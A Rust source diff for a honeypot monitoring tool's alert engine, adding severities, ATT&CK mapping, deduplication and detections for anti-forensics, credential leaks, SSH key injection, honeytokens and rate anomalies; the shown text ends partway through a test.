@@ -1,18 +1,29 @@
 use anyhow::Result;
-use chrono::Utc;
-use log::{debug, info, warn};
+use chrono::{DateTime, Utc};
+use log::{debug, error, info, warn};
+use regex::Regex;
+use serde::{Deserialize, Serialize};
+use serde_json::json;
 use std::collections::{HashMap, HashSet};
 use std::net::IpAddr;
 use std::str::FromStr;
 use std::sync::Arc;
-use tokio::sync::{broadcast, RwLock};
+use tokio::sync::broadcast;
 
-use crate::app::AppEvent;
+use crate::app::{compile_search, AppEvent};
 use crate::config::AlertConfig;
-use crate::data::{EventType, LogEntry, Session};
+use crate::data::{EventType, LogEntry, Session, StoreHandle};
+use crate::data::baseline::AnomalyMetric;
+use crate::data::attack::attack_mapping;
+use crate::core::alert_history::AlertHistory;
+use crate::core::alert_log::AlertLog;
+use crate::core::canaries::Canaries;
+use crate::core::credential_leaks::{session_leaks, short_ssh_key, LeakKind, CREDENTIAL_LEAK_TAG};
+use crate::utils::helpers::format_duration_short;
+use crate::utils::ip::IpList;
 
 /// Alert types that can be triggered
-#[derive(Debug, Clone, PartialEq, Eq)]
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
 pub enum AlertType {
     /// Successful login
     SuccessfulLogin {
@@ -25,11 +36,20 @@ pub enum AlertType {
         session_id: String,
         filename: String,
         shasum: Option<String>,
+        /// Local hash list the file was found on, which makes it known malware
+        #[serde(default)]
+        hash_list: Option<String>,
     },
     /// Suspicious command
     SuspiciousCommand {
         session_id: String,
         command: String,
+        /// Severity set on the matched `alert.on_commands` pattern
+        #[serde(default)]
+        severity: Option<Severity>,
+        /// Risk score set on the matched pattern
+        #[serde(default)]
+        score: Option<u8>,
     },
     /// New source IP
     NewSourceIp {
@@ -39,16 +59,217 @@ pub enum AlertType {
     BlacklistedIp {
         ip: String,
     },
+    /// Attempt to cover tracks (clear history, wipe logs)
+    AntiForensics {
+        session_id: String,
+        src_ip: String,
+    },
     /// High risk activity
     HighRiskActivity {
         session_id: String,
         risk_score: u8,
         reason: String,
     },
+    /// TCP forward to a port in `alert.sensitive_forward_ports`
+    SensitiveForward {
+        session_id: String,
+        src_ip: String,
+        /// `host:port` the client asked to reach
+        destination: String,
+    },
+    /// A honeytoken turned up in a command or its output
+    CanaryTriggered {
+        token_name: String,
+        session_id: String,
+        command: String,
+    },
+    /// A command carried a password, token or key
+    CredentialLeak {
+        session_id: String,
+        src_ip: String,
+        /// What was found, e.g. "password option"
+        kind: String,
+    },
+    /// A public key was written to `authorized_keys`
+    SshKeyInjection {
+        session_id: String,
+        src_ip: String,
+        /// The key as written
+        key: String,
+    },
+    /// A rate running above its baseline for the hour (`[anomaly]`)
+    Anomaly {
+        /// Which rate, e.g. "Session rate"
+        metric: String,
+        /// Start of the hour
+        hour: DateTime<Utc>,
+        /// Count so far this hour
+        current: u64,
+        /// Usual count for this hour of day, rounded
+        usual: u64,
+        /// Past twice the usual margin
+        severe: bool,
+    },
+}
+
+/// How urgently an alert needs attention, least to most
+#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize, Default)]
+#[serde(rename_all = "lowercase")]
+pub enum Severity {
+    #[default]
+    Info,
+    Low,
+    Medium,
+    High,
+    Critical,
+}
+
+impl Severity {
+    /// Severity named `name`, as in `alert.severities` and the `*_min_severity` settings
+    pub fn parse(name: &str) -> Option<Self> {
+        match name {
+            "info" => Some(Severity::Info),
+            "low" => Some(Severity::Low),
+            "medium" => Some(Severity::Medium),
+            "high" => Some(Severity::High),
+            "critical" => Some(Severity::Critical),
+            _ => None,
+        }
+    }
+
+    /// Name used in the config, exports and the alerts panel
+    pub fn as_str(self) -> &'static str {
+        match self {
+            Severity::Info => "info",
+            Severity::Low => "low",
+            Severity::Medium => "medium",
+            Severity::High => "high",
+            Severity::Critical => "critical",
+        }
+    }
+
+    /// Next minimum in the alerts panel's filter cycle
+    pub fn next(self) -> Self {
+        match self {
+            Severity::Info => Severity::Low,
+            Severity::Low => Severity::Medium,
+            Severity::Medium => Severity::High,
+            Severity::High => Severity::Critical,
+            Severity::Critical => Severity::Info,
+        }
+    }
+
+    /// Severity of alerts of `kind` (see [`AlertType::kind`]), with `alert.severities` applied
+    ///
+    /// Only canary hits default to critical: nobody but an intruder knows the tokens.
+    pub fn of_kind(kind: &str, config: &AlertConfig) -> Self {
+        if let Some(severity) = config.severities.get(kind).and_then(|name| Severity::parse(name)) {
+            return severity;
+        }
+        match kind {
+            "canary" => Severity::Critical,
+            "successful_login" | "known_malware" | "anti_forensics" | "high_risk_activity" | "sensitive_forward"
+            | "credential_leak" | "ssh_key_injection" => Severity::High,
+            "file_upload" | "suspicious_command" | "blacklisted_ip" | "severe_anomaly" => Severity::Medium,
+            "new_source_ip" => Severity::Low,
+            _ => Severity::Info,
+        }
+    }
+
+    /// Minimum for a notification channel's `*_min_severity` setting; everything passes an unknown name
+    pub fn minimum(name: &str) -> Self {
+        Severity::parse(name).unwrap_or(Severity::Info)
+    }
+}
+
+impl std::fmt::Display for Severity {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        f.write_str(self.as_str())
+    }
+}
+
+impl AlertType {
+    /// Session the alert was raised for, as it was logged
+    pub fn session_id(&self) -> Option<&str> {
+        match self {
+            AlertType::SuccessfulLogin { session_id, .. }
+            | AlertType::FileUpload { session_id, .. }
+            | AlertType::SuspiciousCommand { session_id, .. }
+            | AlertType::AntiForensics { session_id, .. }
+            | AlertType::HighRiskActivity { session_id, .. }
+            | AlertType::SensitiveForward { session_id, .. }
+            | AlertType::CanaryTriggered { session_id, .. }
+            | AlertType::CredentialLeak { session_id, .. }
+            | AlertType::SshKeyInjection { session_id, .. } => Some(session_id),
+            AlertType::NewSourceIp { .. } | AlertType::BlacklistedIp { .. } | AlertType::Anomaly { .. } => None,
+        }
+    }
+    
+    /// The condition the alert is about: its kind and key fields
+    ///
+    /// Sessions are left out, so an attacker reconnecting to do the same thing
+    /// again is the same condition; so are scores, which vary between repeats.
+    pub fn fingerprint(&self) -> String {
+        let fields = match self {
+            AlertType::SuccessfulLogin { username, src_ip, .. } => json!([username, src_ip]),
+            AlertType::FileUpload { filename, shasum, .. } => json!([shasum.as_ref().unwrap_or(filename)]),
+            AlertType::SuspiciousCommand { command, .. } => json!([command]),
+            AlertType::NewSourceIp { ip } | AlertType::BlacklistedIp { ip } => json!([ip]),
+            AlertType::AntiForensics { src_ip, .. } => json!([src_ip]),
+            AlertType::HighRiskActivity { reason, .. } => json!([reason]),
+            AlertType::SensitiveForward { src_ip, destination, .. } => json!([src_ip, destination]),
+            AlertType::CanaryTriggered { token_name, command, .. } => json!([token_name, command]),
+            AlertType::CredentialLeak { src_ip, kind, .. } => json!([src_ip, kind]),
+            AlertType::SshKeyInjection { src_ip, key, .. } => json!([src_ip, key]),
+            AlertType::Anomaly { metric, hour, .. } => json!([metric, hour]),
+        };
+        format!("{}:{}", self.kind(), fields)
+    }
+    
+    /// Name of the alert's kind in `alert.severities`
+    pub fn kind(&self) -> &'static str {
+        match self {
+            AlertType::SuccessfulLogin { .. } => "successful_login",
+            AlertType::FileUpload { hash_list: Some(_), .. } => "known_malware",
+            AlertType::FileUpload { .. } => "file_upload",
+            AlertType::SuspiciousCommand { .. } => "suspicious_command",
+            AlertType::NewSourceIp { .. } => "new_source_ip",
+            AlertType::BlacklistedIp { .. } => "blacklisted_ip",
+            AlertType::AntiForensics { .. } => "anti_forensics",
+            AlertType::HighRiskActivity { .. } => "high_risk_activity",
+            AlertType::SensitiveForward { .. } => "sensitive_forward",
+            AlertType::CanaryTriggered { .. } => "canary",
+            AlertType::CredentialLeak { .. } => "credential_leak",
+            AlertType::SshKeyInjection { .. } => "ssh_key_injection",
+            AlertType::Anomaly { severe: true, .. } => "severe_anomaly",
+            AlertType::Anomaly { .. } => "anomaly",
+        }
+    }
+    
+    /// Detections the alert stands for, as named in the ATT&CK mapping table
+    pub fn detections(&self) -> &'static [&'static str] {
+        match self {
+            AlertType::SuccessfulLogin { .. } => &["login-success"],
+            AlertType::FileUpload { .. } => &["file-upload"],
+            AlertType::SuspiciousCommand { .. } => &["malicious-command"],
+            AlertType::AntiForensics { .. } => &["anti-forensics"],
+            AlertType::SensitiveForward { .. } => &["tcp-forward"],
+            AlertType::CanaryTriggered { .. } => &["canary"],
+            AlertType::CredentialLeak { .. } => &["credential-leak"],
+            AlertType::SshKeyInjection { .. } => &["persist-ssh-key"],
+            AlertType::NewSourceIp { .. }
+            | AlertType::BlacklistedIp { .. }
+            | AlertType::HighRiskActivity { .. }
+            | AlertType::Anomaly { .. } => &[],
+        }
+    }
 }
 
 /// Alert notification
-#[derive(Debug, Clone)]
+///
+/// Serializes with the timestamp as RFC 3339, so alerts can be persisted or
+/// sent on as structured objects rather than just their `message`.
+#[derive(Debug, Clone, Serialize, Deserialize)]
 pub struct Alert {
     /// Alert type
     pub alert_type: AlertType,
@@ -58,54 +279,162 @@ pub struct Alert {
     pub acknowledged: bool,
     /// Alert message
     pub message: String,
+    /// How urgently it needs attention (`info` for alerts logged before severities)
+    #[serde(default)]
+    pub severity: Severity,
+    /// IDs of the ATT&CK techniques the alert is evidence of
+    #[serde(default)]
+    pub techniques: Vec<String>,
+    /// Times it was raised within `alert.dedup_window_secs` of `timestamp`
+    #[serde(default = "default_count")]
+    pub count: u32,
+    /// When it was last raised, if more than once
+    #[serde(default)]
+    pub last_seen: Option<DateTime<Utc>>,
+}
+
+fn default_count() -> u32 {
+    1
+}
+
+impl Alert {
+    /// How often it repeated, as in "seen 14× in 5m" (`None` if it didn't)
+    pub fn repeats(&self) -> Option<String> {
+        let last_seen = self.last_seen.filter(|_| self.count > 1)?;
+        let span = (last_seen - self.timestamp).num_seconds().max(0) as u64;
+        Some(format!("seen {}× in {}", self.count, format_duration_short(span)))
+    }
+}
+
+/// How long what was alerted for a session is remembered after it closes,
+/// so updates arriving late don't raise its alerts again
+const CLOSED_SESSION_RETENTION_SECS: i64 = 3600;
+
+/// An `alert.on_commands` entry, compiled
+struct CommandRule {
+    /// Compiled pattern
+    regex: Regex,
+    /// Severity of its alerts, if set
+    severity: Option<Severity>,
+    /// Risk score of its alerts, if set
+    score: Option<u8>,
 }
 
 /// Alert engine that monitors events and generates alerts
 pub struct AlertEngine {
     /// Alert configuration
     config: AlertConfig,
+    /// Compiled `on_commands` patterns
+    command_rules: Vec<CommandRule>,
     /// Known source IPs
     known_ips: HashSet<IpAddr>,
-    /// Blacklisted IPs
-    blacklisted_ips: HashSet<IpAddr>,
-    /// Whitelisted IPs
-    whitelisted_ips: HashSet<IpAddr>,
+    /// Blacklisted IPs and ranges
+    blacklisted_ips: IpList,
+    /// Whitelisted IPs and ranges
+    whitelisted_ips: IpList,
     /// Event sender
     event_tx: broadcast::Sender<AppEvent>,
     /// Generated alerts
     alerts: Vec<Alert>,
+    /// Sessions already alerted for anti-forensics
+    anti_forensics_sessions: HashSet<String>,
+    /// Files already alerted as known malware, by session and SHA-256
+    known_malware: HashSet<(String, String)>,
+    /// Forwards already alerted, by session and destination
+    sensitive_forwards: HashSet<(String, String)>,
+    /// Sessions already alerted for their risk score
+    high_risk_sessions: HashSet<String>,
+    /// Blacklisted addresses already alerted
+    blacklisted_seen: HashSet<IpAddr>,
+    /// Every alert raised this run, by session and identity, so none is raised twice
+    raised: HashSet<(Option<String>, String)>,
+    /// Closed sessions, with the ID they were logged under and when they were
+    /// seen closed, until what was alerted for them is forgotten
+    closed_sessions: HashMap<String, (String, DateTime<Utc>)>,
+    /// When closed sessions were last forgotten
+    last_forgotten: DateTime<Utc>,
+    /// Alerts kept across restarts, shared with the UI
+    history: Option<Arc<parking_lot::Mutex<AlertHistory>>>,
+    /// Durable record of every alert (`alert.log_path`)
+    alert_log: Option<AlertLog>,
+    /// Honeytokens looked for in every command
+    canaries: Canaries,
+    /// Store whose baselines are checked for anomalies
+    store: Option<StoreHandle>,
+    /// Anomalies already alerted, by rate, hour and severity
+    anomalies_seen: HashSet<(AnomalyMetric, DateTime<Utc>, bool)>,
 }
 
 impl AlertEngine {
     /// Create a new alert engine
     pub fn new(config: AlertConfig, event_tx: broadcast::Sender<AppEvent>) -> Self {
-        let mut blacklisted_ips = HashSet::new();
-        let mut whitelisted_ips = HashSet::new();
+        // Entries may be single addresses or CIDR ranges
+        let blacklisted_ips = IpList::parse(&config.ip_blacklist);
+        let whitelisted_ips = IpList::parse(&config.ip_whitelist);
         
-        // Parse IP blacklist
-        for ip_str in &config.ip_blacklist {
-            if let Ok(ip) = IpAddr::from_str(ip_str) {
-                blacklisted_ips.insert(ip);
-            }
-        }
+        // Patterns that don't compile were reported by validation already
+        let command_rules = config.on_commands.iter()
+            .filter_map(|alert| match compile_search(&alert.pattern, true) {
+                Ok(regex) => Some(CommandRule {
+                    regex,
+                    severity: alert.severity.as_deref().and_then(Severity::parse),
+                    score: alert.score,
+                }),
+                Err(e) => {
+                    error!("Ignoring alert.on_commands pattern '{}': {}", alert.pattern, e);
+                    None
+                }
+            })
+            .collect();
         
-        // Parse IP whitelist
-        for ip_str in &config.ip_whitelist {
-            if let Ok(ip) = IpAddr::from_str(ip_str) {
-                whitelisted_ips.insert(ip);
-            }
-        }
+        // Alerts still reach the UI if the log can't be opened
+        let alert_log = AlertLog::open(&config).unwrap_or_else(|e| {
+            error!("Alert log disabled: {:#}", e);
+            None
+        });
         
         Self {
             config,
+            command_rules,
             known_ips: HashSet::new(),
             blacklisted_ips,
             whitelisted_ips,
             event_tx,
             alerts: Vec::new(),
+            anti_forensics_sessions: HashSet::new(),
+            known_malware: HashSet::new(),
+            sensitive_forwards: HashSet::new(),
+            high_risk_sessions: HashSet::new(),
+            blacklisted_seen: HashSet::new(),
+            raised: HashSet::new(),
+            closed_sessions: HashMap::new(),
+            last_forgotten: Utc::now(),
+            history: None,
+            alert_log,
+            canaries: Canaries::default(),
+            store: None,
+            anomalies_seen: HashSet::new(),
         }
     }
     
+    /// Alert on the honeytokens in `canaries`
+    pub fn with_canaries(mut self, canaries: Canaries) -> Self {
+        self.canaries = canaries;
+        self
+    }
+    
+    /// Record alerts in `history`, and skip those it loaded at startup
+    pub fn with_history(mut self, history: Arc<parking_lot::Mutex<AlertHistory>>) -> Self {
+        self.history = Some(history);
+        self
+    }
+    
+    /// Alert on anomalies flagged by the baselines in `store`
+    pub fn with_anomalies(mut self, store: StoreHandle) -> Self {
+        self.store = Some(store);
+        self
+    }
+    
     /// Start the alert engine
     pub async fn start(&mut self) -> Result<()> {
         info!("Starting alert engine");
@@ -144,8 +473,8 @@ impl AlertEngine {
                 
                 self.trigger_alert(AlertType::SuccessfulLogin {
                     session_id: session_id.clone(),
-                    username: username.clone(),
-                    src_ip: src_ip.clone(),
+                    username: username.to_string(),
+                    src_ip: src_ip.to_string(),
                 });
             }
         }
@@ -157,21 +486,42 @@ impl AlertEngine {
                     session_id: session_id.clone(),
                     filename: file.filename.clone(),
                     shasum: file.shasum.clone(),
+                    hash_list: None,
                 });
             }
         }
         
-        // Check for specific commands
+        // A honeytoken in a command is always reported; one only in its output
+        // is found once the terminal log is read
+        if entry.event_type == EventType::Command && !self.canaries.is_empty() {
+            if let (Some(session_id), Some(command)) = (&entry.session, &entry.command) {
+                if let Some(token_name) = self.canaries.find(command).map(str::to_string) {
+                    self.trigger_alert(AlertType::CanaryTriggered {
+                        token_name,
+                        session_id: session_id.clone(),
+                        command: command.clone(),
+                    });
+                }
+            }
+        }
+        
+        // Check for specific commands; the most severe matching pattern decides
         if entry.event_type == EventType::Command {
             if let (Some(session_id), Some(command)) = (&entry.session, &entry.command) {
-                for cmd_pattern in &self.config.on_commands {
-                    if command.contains(cmd_pattern) {
-                        self.trigger_alert(AlertType::SuspiciousCommand {
-                            session_id: session_id.clone(),
-                            command: command.clone(),
-                        });
-                        break;
-                    }
+                let default = Severity::of_kind("suspicious_command", &self.config);
+                // Reversed, as ties go to the last maximum and the first listed should win
+                let rule = self.command_rules.iter()
+                    .rev()
+                    .filter(|rule| rule.regex.is_match(command))
+                    .max_by_key(|rule| rule.severity.unwrap_or(default));
+                if let Some(rule) = rule {
+                    let (severity, score) = (rule.severity, rule.score);
+                    self.trigger_alert(AlertType::SuspiciousCommand {
+                        session_id: session_id.clone(),
+                        command: command.clone(),
+                        severity,
+                        score,
+                    });
                 }
             }
         }
@@ -183,7 +533,7 @@ impl AlertEngine {
                     if !self.known_ips.contains(&ip) {
                         self.known_ips.insert(ip);
                         self.trigger_alert(AlertType::NewSourceIp {
-                            ip: src_ip.clone(),
+                            ip: src_ip.to_string(),
                         });
                     }
                 }
@@ -193,17 +543,42 @@ impl AlertEngine {
         // Check for blacklisted IP
         if let Some(src_ip) = &entry.src_ip {
             if let Ok(ip) = IpAddr::from_str(src_ip) {
-                if self.blacklisted_ips.contains(&ip) && !self.whitelisted_ips.contains(&ip) {
+                // With a de-duplication window, every connection is counted on the alert
+                let counted = self.config.dedup_window_secs > 0 && entry.event_type == EventType::Connect;
+                if self.blacklisted_ips.contains(ip) && !self.whitelisted_ips.contains(ip)
+                    && (self.blacklisted_seen.insert(ip) || counted) {
                     self.trigger_alert(AlertType::BlacklistedIp {
-                        ip: src_ip.clone(),
+                        ip: src_ip.to_string(),
                     });
                 }
             }
         }
         
+        self.check_anomalies();
+        
         Ok(())
     }
     
+    /// Alert on rates above their baseline, once per rate and hour, and again if one turns severe
+    fn check_anomalies(&mut self) {
+        let anomalies = match &self.store {
+            Some(store) => store.snapshot().get_anomalies(&Utc::now()),
+            None => return,
+        };
+        
+        for anomaly in anomalies {
+            if self.anomalies_seen.insert((anomaly.metric, anomaly.hour, anomaly.severe)) {
+                self.trigger_alert(AlertType::Anomaly {
+                    metric: anomaly.metric.label().to_string(),
+                    hour: anomaly.hour,
+                    current: anomaly.current,
+                    usual: anomaly.mean.round() as u64,
+                    severe: anomaly.severe,
+                });
+            }
+        }
+    }
+    
     /// Process a session update
     async fn process_session_update(&mut self, session: &Session) -> Result<()> {
         // Skip if alerts are disabled
@@ -211,8 +586,84 @@ impl AlertEngine {
             return Ok(());
         }
         
-        // Check risk score
-        if session.malicious_score >= 80 {
+        // Alert once per session that tries to cover its tracks
+        if session.tags.iter().any(|tag| tag == "anti-forensics")
+            && self.anti_forensics_sessions.insert(session.id.clone()) {
+            self.trigger_alert(AlertType::AntiForensics {
+                session_id: session.id.clone(),
+                src_ip: session.src_ip.to_string(),
+            });
+        }
+        
+        // Credentials and planted keys, each reported once per session
+        let leaked = session.tags.iter().any(|tag| tag == CREDENTIAL_LEAK_TAG);
+        let planted = session.tags.iter().any(|tag| tag == "persist-ssh-key");
+        if leaked || planted {
+            let leaks = session_leaks(session.commands.iter().map(|cmd| cmd.command.as_str()));
+            for leak in leaks {
+                let alert_type = match leak.kind {
+                    LeakKind::InjectedSshKey => AlertType::SshKeyInjection {
+                        session_id: session.id.clone(),
+                        src_ip: session.src_ip.to_string(),
+                        key: leak.value,
+                    },
+                    kind => AlertType::CredentialLeak {
+                        session_id: session.id.clone(),
+                        src_ip: session.src_ip.to_string(),
+                        kind: kind.label().to_string(),
+                    },
+                };
+                self.trigger_alert(alert_type);
+            }
+        }
+        
+        // Files on a local hash list are known malware, so they alert even
+        // when uploads in general don't
+        for file in &session.files {
+            if let (Some(list), Some(shasum)) = (&file.hash_list, &file.shasum) {
+                if self.known_malware.insert((session.id.clone(), shasum.clone())) {
+                    self.trigger_alert(AlertType::FileUpload {
+                        session_id: session.id.clone(),
+                        filename: file.filename.clone(),
+                        shasum: Some(shasum.clone()),
+                        hash_list: Some(list.clone()),
+                    });
+                }
+            }
+        }
+        
+        // Tunnels toward mail, SMB or RDP suggest spam relaying or pivoting
+        for forward in &session.forwards {
+            if !self.config.sensitive_forward_ports.contains(&forward.dst_port) {
+                continue;
+            }
+            let destination = forward.destination();
+            if self.sensitive_forwards.insert((session.id.clone(), destination.clone())) {
+                self.trigger_alert(AlertType::SensitiveForward {
+                    session_id: session.id.clone(),
+                    src_ip: session.src_ip.to_string(),
+                    destination,
+                });
+            }
+        }
+        
+        // Honeytokens that only showed up in what a command printed
+        for command in &session.commands {
+            let hit = command.output.as_deref()
+                .filter(|_| self.canaries.find(&command.command).is_none())
+                .and_then(|output| self.canaries.find(output))
+                .map(str::to_string);
+            if let Some(token_name) = hit {
+                self.trigger_alert(AlertType::CanaryTriggered {
+                    token_name,
+                    session_id: session.id.clone(),
+                    command: command.command.clone(),
+                });
+            }
+        }
+        
+        // Check risk score, once per session
+        if session.malicious_score >= 80 && self.high_risk_sessions.insert(session.id.clone()) {
             self.trigger_alert(AlertType::HighRiskActivity {
                 session_id: session.id.clone(),
                 risk_score: session.malicious_score,
@@ -220,17 +671,52 @@ impl AlertEngine {
             });
         }
         
+        let now = Utc::now();
+        if session.end_time.is_some() {
+            self.closed_sessions.entry(session.id.clone())
+                .or_insert_with(|| (session.display_id().to_string(), now));
+        }
+        if (now - self.last_forgotten).num_seconds() >= 60 {
+            self.forget_closed_sessions(now);
+        }
+        
         Ok(())
     }
     
+    /// Drop what was alerted for sessions closed longer than the retention ago
+    ///
+    /// Alerts raised from log entries carry the ID the session was logged
+    /// under rather than its own, so both are forgotten.
+    fn forget_closed_sessions(&mut self, now: DateTime<Utc>) {
+        self.last_forgotten = now;
+        let mut expired = HashSet::new();
+        self.closed_sessions.retain(|id, (logged_id, closed)| {
+            let keep = (now - *closed).num_seconds() < CLOSED_SESSION_RETENTION_SECS;
+            if !keep {
+                expired.insert(id.clone());
+                expired.insert(logged_id.clone());
+            }
+            keep
+        });
+        if expired.is_empty() {
+            return;
+        }
+        
+        self.anti_forensics_sessions.retain(|id| !expired.contains(id));
+        self.high_risk_sessions.retain(|id| !expired.contains(id));
+        self.known_malware.retain(|(id, _)| !expired.contains(id));
+        self.sensitive_forwards.retain(|(id, _)| !expired.contains(id));
+        self.raised.retain(|(id, _)| id.as_ref().map_or(true, |id| !expired.contains(id)));
+    }
+    
     /// Determine the reason for high risk score
     fn determine_risk_reason(&self, session: &Session) -> String {
-        let mut reasons = Vec::new();
+        let mut reasons: Vec<String> = Vec::new();
         
         // Check for successful login
         if let Some(user) = &session.user {
             if user.login_success {
-                reasons.push("Successful login");
+                reasons.push("Successful login".to_string());
             }
         }
         
@@ -247,13 +733,18 @@ impl AlertEngine {
                 .count();
             
             if suspicious_commands > 0 {
-                reasons.push(&format!("{} suspicious commands", suspicious_commands));
+                reasons.push(format!("{} suspicious commands", suspicious_commands));
             }
         }
         
         // Check for file uploads
         if !session.files.is_empty() {
-            reasons.push(&format!("{} files transferred", session.files.len()));
+            reasons.push(format!("{} files transferred", session.files.len()));
+        }
+        
+        // Check for tunneling attempts
+        if !session.forwards.is_empty() {
+            reasons.push(format!("{} forwarding attempts", session.forwards.len()));
         }
         
         if reasons.is_empty() {
@@ -265,17 +756,39 @@ impl AlertEngine {
     
     /// Trigger an alert
     fn trigger_alert(&mut self, alert_type: AlertType) {
+        // The same alert type, session and detail is raised once, so re-scanning a
+        // session repeats nothing; session-less alerts are counted by the window instead
+        let once = alert_type.session_id().is_some() || self.config.dedup_window_secs == 0;
+        if once && !self.raised.insert((alert_type.session_id().map(str::to_string), alert_key(&alert_type))) {
+            return;
+        }
+        
+        // Already in the history from before a restart; don't notify again
+        if self.history.as_ref().map_or(false, |history| history.lock().was_loaded(&alert_type)) {
+            return;
+        }
+        
+        let now = Utc::now();
+        if self.count_repeat(&alert_type, now) {
+            return;
+        }
+        
         let message = match &alert_type {
             AlertType::SuccessfulLogin { username, src_ip, .. } => {
                 format!("Successful login for user '{}' from {}", username, src_ip)
             }
-            AlertType::FileUpload { filename, shasum, .. } => {
-                if let Some(hash) = shasum {
+            AlertType::FileUpload { filename, shasum, hash_list, .. } => {
+                if let (Some(list), Some(hash)) = (hash_list, shasum) {
+                    format!("Known malware on {}: {} (SHA256: {})", list, filename, hash)
+                } else if let Some(hash) = shasum {
                     format!("File uploaded: {} (SHA256: {})", filename, hash)
                 } else {
                     format!("File uploaded: {}", filename)
                 }
             }
+            AlertType::SuspiciousCommand { command, score: Some(score), .. } => {
+                format!("Suspicious command (score {}): {}", score, command)
+            }
             AlertType::SuspiciousCommand { command, .. } => {
                 format!("Suspicious command: {}", command)
             }
@@ -285,42 +798,115 @@ impl AlertEngine {
             AlertType::BlacklistedIp { ip } => {
                 format!("Connection from blacklisted IP: {}", ip)
             }
+            AlertType::AntiForensics { session_id, src_ip } => {
+                format!("Anti-forensics: {} tried to cover tracks in session {}", src_ip, session_id)
+            }
             AlertType::HighRiskActivity { risk_score, reason, .. } => {
                 format!("High risk activity detected (Score: {}): {}", risk_score, reason)
             }
+            AlertType::SensitiveForward { session_id, src_ip, destination } => {
+                format!("Sensitive forward: {} tunneled to {} in session {}", src_ip, destination, session_id)
+            }
+            AlertType::CanaryTriggered { token_name, session_id, command } => {
+                format!("CRITICAL: canary '{}' triggered in session {}: {}", token_name, session_id, command)
+            }
+            AlertType::CredentialLeak { session_id, src_ip, kind } => {
+                format!("Credential leak in session {}: {} from {}", session_id, kind, src_ip)
+            }
+            AlertType::SshKeyInjection { session_id, src_ip, key } => {
+                format!("SSH key injection: {} planted {} in session {}", src_ip, short_ssh_key(key), session_id)
+            }
+            AlertType::Anomaly { metric, current, usual, .. } => {
+                let ratio = *current as f64 / (*usual).max(1) as f64;
+                format!("{} {:.1}x normal for this hour ({} vs {} usual)", metric, ratio, current, usual)
+            }
         };
         
+        let techniques = attack_mapping().ids_for(alert_type.detections().iter().copied());
+        let severity = match &alert_type {
+            AlertType::SuspiciousCommand { severity: Some(severity), .. } => *severity,
+            _ => Severity::of_kind(alert_type.kind(), &self.config),
+        };
         let alert = Alert {
             alert_type,
-            timestamp: Utc::now(),
+            timestamp: now,
             acknowledged: false,
             message,
+            severity,
+            techniques,
+            count: 1,
+            last_seen: None,
         };
         
         // Log the alert
-        warn!("ALERT: {}", alert.message);
+        warn!("ALERT [{}]: {}", alert.severity, alert.message);
+        
+        // Each channel only gets the alerts at or above its own minimum
+        if severity >= Severity::minimum(&self.config.log_min_severity) {
+            if let Some(alert_log) = &mut self.alert_log {
+                if let Err(e) = alert_log.append(&alert) {
+                    error!("{:#}", e);
+                }
+            }
+        }
         
         // Add to alerts list
         self.alerts.push(alert.clone());
+        if let Some(history) = &self.history {
+            history.lock().push(alert.clone());
+        }
         
         // Send visual alert if enabled
-        if self.config.visual_enabled {
+        if self.config.visual_enabled && severity >= Severity::minimum(&self.config.visual_min_severity) {
             // Visual alerts will be handled by the UI
         }
         
         // Send sound alert if enabled
-        if self.config.sound_enabled {
+        if self.config.sound_enabled && severity >= Severity::minimum(&self.config.sound_min_severity) {
             // Sound alerts would be implemented here
             // This is platform-specific and would require additional dependencies
         }
     }
     
+    /// Count `alert_type` on the alert it repeats, if one was raised within the window
+    ///
+    /// The window runs from the first alert, so a sustained attack raises a
+    /// fresh alert once per window rather than one alert that never ends.
+    fn count_repeat(&mut self, alert_type: &AlertType, now: DateTime<Utc>) -> bool {
+        // Every canary hit is reported on its own
+        if self.config.dedup_window_secs == 0 || matches!(alert_type, AlertType::CanaryTriggered { .. }) {
+            return false;
+        }
+        let window = chrono::Duration::seconds(self.config.dedup_window_secs as i64);
+        let fingerprint = alert_type.fingerprint();
+        
+        // Alerts are raised in order, so only the newest can be in the window
+        let alert = match self.alerts.iter_mut()
+            .rev()
+            .take_while(|alert| now - alert.timestamp < window)
+            .find(|alert| alert.alert_type.fingerprint() == fingerprint)
+        {
+            Some(alert) => alert,
+            None => return false,
+        };
+        
+        alert.count += 1;
+        alert.last_seen = Some(now);
+        debug!("Alert repeated ({}× since {}): {}", alert.count, alert.timestamp, alert.message);
+        if let Some(history) = &self.history {
+            history.lock().count_repeat(alert);
+        }
+        true
+    }
+    
     /// Get all alerts
+    #[allow(dead_code)]
     pub fn get_alerts(&self) -> &[Alert] {
         &self.alerts
     }
     
     /// Acknowledge an alert
+    #[allow(dead_code)]
     pub fn acknowledge_alert(&mut self, index: usize) -> Result<()> {
         if index < self.alerts.len() {
             self.alerts[index].acknowledged = true;
@@ -331,12 +917,370 @@ impl AlertEngine {
     }
     
     /// Clear all acknowledged alerts
+    #[allow(dead_code)]
     pub fn clear_acknowledged_alerts(&mut self) {
         self.alerts.retain(|alert| !alert.acknowledged);
     }
     
     /// Clear all alerts
+    #[allow(dead_code)]
     pub fn clear_all_alerts(&mut self) {
         self.alerts.clear();
     }
-}
\ No newline at end of file
+}
+
+/// Identity of an alert: its type with the session and detail it carries
+pub(crate) fn alert_key(alert_type: &AlertType) -> String {
+    serde_json::to_string(alert_type).unwrap_or_default()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::data::testing::at;
+    use pretty_assertions::assert_eq;
+
+    fn engine() -> AlertEngine {
+        let (event_tx, _) = broadcast::channel(16);
+        AlertEngine::new(AlertConfig::default(), event_tx)
+    }
+
+    fn command(session_id: &str, command: &str) -> AlertType {
+        AlertType::SuspiciousCommand {
+            session_id: session_id.to_string(),
+            command: command.to_string(),
+            severity: None,
+            score: None,
+        }
+    }
+
+    #[cfg(feature = "sqlite-db")]
+    #[test]
+    fn alerts_loaded_from_the_database_are_not_raised_again() {
+        let dir = tempfile::tempdir().unwrap();
+        let mut config = crate::config::Config::default();
+        config.storage.backend = "sqlite".to_string();
+        config.storage.path = Some(dir.path().join("xkippo.db").display().to_string());
+        let blacklisted = || AlertType::BlacklistedIp { ip: "203.0.113.7".to_string() };
+
+        let history = Arc::new(parking_lot::Mutex::new(AlertHistory::load(&config).unwrap()));
+        let mut before = engine().with_history(history.clone());
+        before.trigger_alert(blacklisted());
+        assert_eq!(before.get_alerts().len(), 1);
+        drop((before, history));
+
